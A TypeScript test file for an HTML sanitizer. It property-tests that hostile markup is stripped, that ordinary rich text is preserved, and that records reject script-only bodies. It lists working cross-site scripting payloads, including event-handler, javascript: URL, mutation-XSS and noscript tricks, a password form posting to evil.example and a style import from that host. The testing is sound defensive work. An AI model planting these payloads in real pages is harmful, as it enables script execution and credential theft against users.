import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { richText } from '../../../shared/core/fields/rich-text.ts'
import { testWorkspace } from '../../../test/workspace.ts'
import { createRecord } from '../records/index.ts'
import { safeHtml } from './sanitize-html.ts'

const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" jAvA\tscript:alert(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<p onclick="alert(1)" style="position:fixed">x</p>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>',
  '<form action="https://evil.example"><input name=password></form>',
  '<style>@import "https://evil.example"</style>',
  '<<script>script>alert(1)<</script>/script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

const acts =
  /<(?:script|img|svg|iframe|form|input|style|math|object|embed|link|meta|base)\b|<[^>]*\s(?:on\w+|style|src)\s*=|<[^>]*=\s*["']?\s*(?:javascript|data|vbscript):|href="\/\//i

test('nothing that acts is left of hostile HTML, alone or between other text', () => {
  const piece = fc.oneof(
    fc.constantFrom(...hostile),
    fc.string(),
    fc.constantFrom('<p>', '</p>', '"', "'", '>'),
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
      const safe = safeHtml(pieces.join('')) ?? ''
      assert.doesNotMatch(safe, acts)
      assert.equal(safeHtml(safe) ?? '', safe)
    }),
    { numRuns: 500 },
  )
})

test('written text stays as it is', () => {
  for (const html of richText.examples) assert.equal(safeHtml(html), html)
  const link = '<p>See <a href="https://kith.example">this</a></p>'
  assert.match(safeHtml(link) ?? '', /^<p>See <a href="https:\/\/kith\.example" rel="noopener/)
})

test('a record keeps rich text without what acts, in its event too, and blank where nothing is left', async () => {
  const { ctx } = await testWorkspace()

  const { record } = await createRecord(ctx, 'note', { body: '<p>Call <img src=x onerror=alert(1)>Ann</p>' })

  assert.equal(record.body, '<p>Call Ann</p>')
  await assert.rejects(createRecord(ctx, 'note', { body: '<script>alert(1)</script><b></b>' }), {
    code: 'records.invalid',
  })
})
